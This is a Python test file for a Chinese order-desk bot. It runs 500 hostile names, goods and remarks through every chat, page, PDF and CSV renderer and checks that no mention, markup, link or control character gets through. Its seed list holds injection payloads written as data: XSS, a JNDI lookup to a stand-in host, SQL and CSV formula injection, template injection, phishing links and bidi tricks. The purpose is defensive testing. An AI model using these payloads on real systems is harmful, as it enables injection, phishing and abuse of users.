"""Five hundred hostile names, goods and remarks through every renderer: nothing breaks, nothing gains power.

For each: the answer, the detail, the customer's list, the draft of a change, the timeline page, and every paper; each drawn for
the browser's group, WeCom, DingTalk, and as plain words. What the texts may look like is free; what is held is that no mention, no
markup, no link and no control character of a stranger's comes through, and that the shape (buttons, fields, tags of the page) is
the same as for an ordinary customer.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
from collections.abc import Iterator
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pypdfium2
import pytest
from PIL import Image
from starlette.applications import Starlette

from bot.pages import timeline as timeline_page
from domain.chat import Document, Reply
from domain.order import AftersaleKind, AftersaleStage, Order
from domain.render import markdown, plain
from domain.store import Stock, StockMove
from domain.understand import understand
from handlers import customers, documents, orders, stock, todo
from handlers.charts_figures import Bars, bars_chart
from handlers.charts_heat import HeatMap, heat_chart
from handlers.order_reply import timeline_url
from integrations.console import wire as console
from integrations.dingtalk import Settings as DingTalk
from integrations.dingtalk import drawing as dingtalk
from integrations.wecom import cards as wecom
from tests.builders import NOW, aftersale, line, order, receiver, scan, shipped, track
from tests.handlers.ask_desk import AskDesk

COUNT = 500  # so that COUNT + 1 is divisible by three: see ORDINARY
AT_ONCE = 50  # orders of one paper
SEEDS = (
    "@所有人", "@all", "<@all>", "<@zhangsan>", "＠所有人", "@everyone", "<at id=all></at>", '<a atId="all">@all</a>',
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</div></body>", "<!--", "]]>", "<![CDATA[x]]>", "&lt;b&gt;",
    "[点我领红包](http://evil.example)", "![图](http://evil.example/x.png)", "http://evil.example/a?b=c", "www.evil.example",
    "javascript:alert(1)", "dtmd://dingtalkclient/sendMessage?content=同意A1", "**粗体** _斜_ ~~删~~", "# 标题", "> 引用", "- 项", "1. 项",
    "`代码`", "```\n块\n```", "| 表 | 格 |", "---", '<font color="warning">红</font>', "\\", "\\n", "\\u0000", "%s%s%n", "%00", "{{7*7}}",
    "{0.__class__}", "${jndi:ldap://evil.example/x}", "#{7*7}", "'; DROP TABLE orders;--", '" OR 1=1 --', "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(1)", "\x00", "\x07\x08", "\x1b[31m红\x1b[0m", "\r\n\r\n", "a\nb\nc", "\t\t", "\u2028\u2029", "\u202e倒着写\u202c",
    "\u2066隔离\u2069", "\u200b\u200c\u200d\ufeff", "\u00ad", "z\u0351\u036f\u0310\u0321a\u0353\u034el\u0322\u0335g\u0489o\u0321",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f44b\U0001f3fd", "\U0001f1e8\U0001f1f3", "\ue000\uf8ff", "\ud83d", "\udc00x",
    "ﷺ" * 12, "㍿", "𝓱𝓮𝓵𝓵𝓸", "ＡＢＣ＠ａｌｌ", "١٢٣", "null", "undefined", "NaN", "None", "true", "0", "-1", "9007199254740993001", "1e309",
    "…", "　", "", " ", "王", "司马相如", "O'Brien", "张三、李四", "王小芳（女）", "José Ñandú", "Łukasz", "Nguyễn Văn A", "ประยุทธ์", "محمد", "Владимир",
    "字" * 3000, "@所有人" * 500, "<b>" * 2000, "\u202e" * 2000, "[x](" * 800, "(" * 3000, "\U0001f600" * 1000,
)  # fmt: skip
POWER = re.compile(
    r"@(?:all\b|everyone|所有人)|<@|</?(?:script|img|div|body|font|at|b)\b|<a\b|<!|\]\(\s*(?:http|javascript|dtmd)"
    r"|https?://evil|www\.evil|dtmd://dingtalkclient/sendMessage\?content=同意",
    re.IGNORECASE,
)
INVISIBLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ue000-\uf8ff\ud800-\udfff]"
)
OURS = re.compile(r'<font color="(?:info|comment|warning)">|</font>|https://desk\.example\S*')
SETTINGS = DingTalk(client_id="ding-client", client_secret="ding-secret")


def texts() -> list[str]:
    """The same 500 in every run: each seed alone, then pairs and triples with ordinary letters between them."""
    rnd = random.Random(20261111)
    found = list(dict.fromkeys(SEEDS))
    while len(found) < COUNT:
        parts = [rnd.choice(SEEDS)[: rnd.choice((8, 40, 400))] for _ in range(rnd.choice((2, 3)))]
        found.append(rnd.choice(("", "王", "Anna ", "6")).join(parts))
    return found[:COUNT]


def hostile(index: int, text: str) -> Order:
    goods = (line(f"SKU-{index % 7}{text[:12]}", title=text), line("SKU-OK", title="保温杯"))
    to = receiver(name=text[:400] or "王小芳", town=text, detail=f"{text} 3 幢 501", phone=f"139{index:08}")
    if index % 3 == 0:  # delivered to somebody; the others wait
        return shipped(number(index), waybill=f"SF1{index:012}", lines=goods, receiver=to, buyer_note=text, buyer_name=text)
    return order(
        number(index), lines=goods, receiver=to, buyer_note=text, seller_note=text, buyer_name=text, warehouse="杭州仓"
    )


ORDINARY = {COUNT % 3 == 0: COUNT, (COUNT + 1) % 3 == 0: COUNT + 1}  # whether it was sent -> an order like any other
assert set(ORDINARY) == {True, False}


def number(index: int) -> str:
    return f"69201547832{index:08}"


def leaves(value: Any) -> Iterator[str]:
    """Every text of a JSON value; keys are ours."""
    match value:
        case str():
            yield value
        case dict():
            for each in value.values():
                yield from leaves(each)
        case list() | tuple():
            for each in value:
                yield from leaves(each)


def drawn(reply: Reply) -> Iterator[tuple[str, str]]:
    """(surface, text) of everything that leaves the house for a reply."""
    yield "plain", plain(reply)
    yield "markdown", markdown(reply)
    yield from (
        ("console", text) for text in leaves(console.draw(reply, message_id="m1", base_url="https://desk.example").body)
    )
    for buttons in (True, False):
        made = wecom.draw(reply, task="task-1", buttons=buttons, media=False)
        yield from (("wecom", text) for text in (*made.texts, *made.instead, *leaves(made.card)))
    params, rest = dingtalk.card_data(reply, SETTINGS)
    yield from (("dingtalk card", text) for key, text in params.items() if key != "sys_full_json_obj")
    yield from (("dingtalk buttons", text) for text in leaves(json.loads(params["sys_full_json_obj"])))
    yield "dingtalk rest", rest
    _, action = dingtalk.action_card(reply, bot="小单")
    yield from (("dingtalk action", text) for key, text in action.items() if "URL" not in key)
    yield "dingtalk headline", dingtalk.headline(reply)


def held(reply: Reply, of: str) -> None:
    for surface, text in drawn(reply):
        text.encode()  # no half of a surrogate pair: the platform's JSON would be refused
        bad = INVISIBLE.search(text)
        assert bad is None, f"{surface}: {bad.group()!r} of {of[:60]!r} in {text[:200]!r}"
        power = POWER.search(OURS.sub(" ", text.replace("\\", "")))
        assert power is None, f"{surface}: {power.group()!r} of {of[:60]!r} in {text[:300]!r}"
        assert len(text.encode()) <= 20_000, f"{surface}: {len(text.encode())} bytes of {of[:60]!r}"


def shape(reply: Reply) -> tuple[int, int, int]:
    """What a stranger's text must not change: how many buttons, links and lines there are."""
    card = reply.card
    return (len(card.buttons) if card else -1, len(card.links) if card else -1, len(card.lines) if card else -1)


@pytest.fixture
def ask(tmp_path: Path) -> Iterator[AskDesk]:
    """Everybody's orders in one store, and beside each kind an ordinary one to compare with."""
    desk = AskDesk(tmp_path)
    put = [hostile(index, text) for index, text in enumerate(texts())]
    put += [hostile(COUNT, "王小芳"), hostile(COUNT + 1, "王小芳")]
    desk.store.write_now(lambda u: u.orders.upsert_many(put, seen_at=NOW, surface="channel"))
    yield desk
    desk.close()


async def test_the_answer_and_the_detail(ask: AskDesk) -> None:
    for intent in ("where_is_order", "order_detail"):
        usual = {
            kind: shape(await ask.ask(orders.FEATURE, intent, order_no=number(like))) for kind, like in ORDINARY.items()
        }
        for index, text in enumerate(texts()):
            reply = await ask.ask(orders.FEATURE, intent, order_no=number(index))
            held(reply, text)
            assert shape(reply)[:2] == usual[index % 3 == 0][:2], text[:80]  # a remark that holds nothing has no line


async def test_the_customers_list_and_the_whole_person_one_to_one(ask: AskDesk) -> None:
    for index, text in enumerate(texts()):
        held(await ask.ask(customers.FEATURE, "customer_orders", phone=f"139{index:08}"), text)
        if index % 5 == 0:
            held(await ask.ask(orders.FEATURE, "order_detail", order_no=number(index), direct=True), text)


async def test_what_carriers_and_buyers_write_about_an_after_sale(ask: AskDesk) -> None:
    for index, text in enumerate(texts()):
        if index % 3 == 0:
            waybill = f"SF1{index:012}"
            ask.put(
                track(scan(text), scan(f"{text}派件员", at=NOW + timedelta(minutes=1), place=text[:40]), waybill=waybill)
            )
            held(await ask.ask(orders.FEATURE, "where_is_order", order_no=number(index)), text)
        elif index % 3 == 1:
            ask.put(aftersale(f"71{index:06}", order_number=number(index), reason=text, note=text))
            held(await ask.ask(orders.FEATURE, "aftersale_status", order_no=number(index)), text)


class Shape(HTMLParser):
    """The page's tags and the names of their attributes, in order."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert not (value or "").lower().startswith(("javascript:", "http://evil", "//evil")), value


async def test_the_timeline_page_keeps_its_tags(ask: AskDesk) -> None:
    app = Starlette(routes=list(timeline_page.routes(ask.desk)))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="https://desk.example") as web:

        async def tags(index: int, scope: str) -> list[tuple[str, tuple[str, ...]]]:
            url = timeline_url(ask.stored(number(index)).id, ask.clock.now(), ask.desk, scope=scope)
            answer = await web.get(url.removeprefix("https://desk.example"))
            assert answer.status_code == 200
            assert "<script" not in answer.text.lower()
            assert INVISIBLE.search(answer.text) is None
            page = Shape()
            page.feed(answer.text)
            return page.tags

        for index, text in enumerate(texts()):
            if index % 3 != 2:
                continue  # those without a track or an after-sale have the ordinary order's steps
            for scope in ("staff", "customer"):
                assert await tags(index, scope) == await tags(ORDINARY[False], scope), text[:80]


def words_of(document: Document) -> str:
    if document.media_type.startswith("text/csv"):
        told = document.content.decode("utf-8-sig")
        for cell in (cell for row in csv.reader(io.StringIO(told)) for cell in row):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"-?[\d.]+|\t\d+", cell), cell[:80]
        return told
    paper = pypdfium2.PdfDocument(document.content)
    try:
        return " ".join(page.get_textpage().get_text_range() for page in paper)
    finally:
        paper.close()


async def test_every_paper_opens_and_carries_no_hidden_letters(ask: AskDesk) -> None:
    for index, text in enumerate(texts()):
        if index % 40 > 1:
            continue  # a paper takes a quarter of a second; the pick list below has them all
        for what in ("出库单", "发票资料") if index % 3 else ("退货标签",):
            if what == "退货标签":
                kind = AftersaleKind.RETURN
                stage = AftersaleStage.WAIT_BUYER_RETURN
                ask.put(aftersale(f"72{index:06}", order_number=number(index), kind=kind, stage=stage, reason=text))
            asked = f"{what} {number(index)}"
            plan = understand(asked, now=ask.clock.now())
            reply = await ask.plan(documents.FEATURE, plan, asked, direct=index % 80 == 0)
            held(reply, text)
            for document in reply.documents:
                shown = words_of(document)
                assert number(index)[-4:] in shown or what == "退货标签"
                assert INVISIBLE.search(shown.replace("\r\n", "\n")) is None, text[:80]
                assert not re.search(r'[\\/:*?"<>|\x00-\x1f]', document.name), document.name


async def test_the_pick_list_of_the_whole_day(ask: AskDesk) -> None:
    reply = await ask.plan(documents.FEATURE, understand("拣货单", now=ask.clock.now()), "拣货单", who="李芳")
    held(reply, "all")
    (document,) = reply.documents
    assert "SKU-OK" in words_of(document)


def sku_of(index: int, text: str) -> str:
    return f"H{index}{text[:20]}".encode("utf-8", "replace").decode()


async def test_lists_stock_and_charts(ask: AskDesk) -> None:
    held(await ask.ask(todo.FEATURE, "todo", who="李芳"), "all")
    for start in range(0, COUNT, AT_ONCE):
        part = texts()[start : start + AT_ONCE]

        def shelves(uow: Any, part: list[str] = part, start: int = start) -> None:
            for offset, text in enumerate(part):
                sku = sku_of(start + offset, text)
                uow.stock.define(Stock(sku, "杭州仓", 0, 0, 0, 40, 0, text[:400], NOW))
                uow.stock.move([StockMove(sku, "杭州仓", "receive", 3, f"r:{start + offset}", NOW)])

        ask.store.write_now(shelves)
        for offset, text in enumerate(part):
            held(await ask.ask(stock.FEATURE, "stock", sku=sku_of(start + offset, text), who="陈店长"), text)
        levels = ask.store.read_now(lambda r: r.stock.levels(warehouse="杭州仓", limit=5000))
        chosen = [level for level in levels if level.sku.startswith("H")][start : start + 20]
        assert Image.open(io.BytesIO(heat_chart(HeatMap.of(chosen)).png)).width > 300
        labels = tuple(text[:60] for text in part[:8])
        ones = (1.0,) * len(labels)
        bars = Bars("谁最多", labels, ones, ("1",) * len(labels), part[0][:200], days=False)
        picture = bars_chart(bars)
        assert Image.open(io.BytesIO(picture.png)).width > 300
